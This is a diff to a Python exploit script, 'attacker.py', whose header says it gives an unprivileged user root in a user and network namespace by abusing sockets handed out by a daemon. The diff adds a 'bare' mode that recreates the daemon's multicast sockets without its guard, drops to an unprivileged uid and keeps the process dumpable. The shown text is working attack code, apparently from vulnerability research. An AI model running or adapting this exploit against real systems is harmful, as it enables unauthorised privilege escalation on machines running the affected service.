@@ -1,6 +1,7 @@
 # An unprivileged user with a segment's sockets in his hands: root in a user and network namespace of his own.
 #   attacker.py SOCKETS FAMILY GROUP CODE
-# The code runs with what is defined here; `u` sends, `g` hears.
+# The code runs with what is defined here; `u` sends, `g` hears. With `bare` for SOCKETS, started by root, they are as the
+# daemon makes them, but without a guard.
 import array, ctypes, errno, fcntl, mmap, os, select, socket, struct, sys, time
 
 AT, FAMILY, GROUP, CODE = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
@@ -9,10 +10,10 @@ NAMES = errno.errorcode
 SIX = FAMILY == socket.AF_INET6
 
 
-def ask(family=FAMILY, group=GROUP):
+def ask(family=FAMILY, group=GROUP, network=0):
     stream = socket.socket(socket.AF_UNIX)
     stream.connect(AT)
-    stream.sendall(struct.pack("=iii64s", family, 0x10000, 0, group.encode()))
+    stream.sendall(struct.pack("=iii64s", family, 0x10000, network, group.encode()))
     answer, fds, _, _ = socket.recv_fds(stream, 12, 4)
     number = struct.unpack("=i", answer[:4])[0]
     if number:
@@ -148,6 +149,33 @@ def ring_set(level, name, value):
     return ring(46, fields)
 
 
+def bare():
+    one, all = (socket.socket(FAMILY, socket.SOCK_DGRAM) for _ in range(2))
+    device = socket.if_nametoindex("eth0")
+    own, group = ("fd00::1", "ff05:56de::3e8") if SIX else ("10.0.0.1", "239.0.3.232")
+    for s in one, all:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
+        if SIX:
+            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+    all.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    all.bind((group, 14789))
+    address = socket.inet_pton(FAMILY, group)
+    if SIX:
+        all.setsockopt(socket.IPPROTO_IPV6, 20, address + struct.pack("=i", device))
+    else:
+        all.setsockopt(socket.IPPROTO_IP, 35, address + struct.pack("=4xi", device))
+    one.bind((own, 0))
+    return [one, all, bytes.fromhex("080000000003e800")]
+
+
+if AT == "bare":
+    pool = [bare() for _ in range(16)]
+    ask = lambda: pool.pop()
+    os.setgroups([])
+    os.setgid(1000)
+    os.setuid(41000)
+    # PR_SET_DUMPABLE: or /proc/self is root's.
+    libc.prctl(4, 1)
 u, g, header = ask()
 to = g.getsockname()
 own = u.getsockname()
